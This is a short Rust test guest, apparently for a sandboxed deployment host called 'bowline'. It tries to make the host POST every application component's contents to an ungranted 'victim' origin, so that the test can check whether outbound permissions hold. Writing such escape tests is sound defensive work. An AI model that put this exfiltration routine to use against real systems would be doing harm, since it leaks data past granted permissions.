//! Has the host send the application's contents to an origin that it was not granted.

use bowline_guests::prelude::*;
use bowline_target::http;

target!(deploy, server_url(), text("victim"));

fn deploy(app: &Application, env: &Environment) -> Result<Deployment, Failure> {
    let victim = value(env, "victim")?;
    let mut sent = 0;
    for component in app.components() {
        let request = ::http::Request::post(&victim)
            .body(app.open(&component.source.sha256)?)
            .map_err(|error| Failure::Unexpected(error.to_string()))?;
        sent += usize::from(http::send_content(request).is_ok());
    }
    match sent {
        0 => Err(Failure::Unexpected("nothing was sent".into())),
        _ => Ok(seen(app, format!("{sent} sent"))),
    }
}
